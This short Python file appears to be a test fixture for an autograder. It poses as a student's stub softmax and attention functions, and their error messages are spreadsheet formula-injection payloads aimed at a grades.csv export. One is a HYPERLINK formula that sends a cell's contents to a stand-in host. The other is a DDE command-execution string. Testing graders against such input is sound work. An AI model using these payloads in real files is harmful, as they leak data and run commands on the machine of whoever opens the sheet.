"""Graded under a student id (file name) that starts with '=', '+' or '@': a spreadsheet
formula in grades.csv; its messages start with '=' too."""
# ---- the attack ----
def softmax(x, dim=-1):
    raise NotImplementedError("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")")


def scaled_dot_product_attention(q, k, v, mask=None):
    raise NotImplementedError("=cmd|' /C calc'!A0")
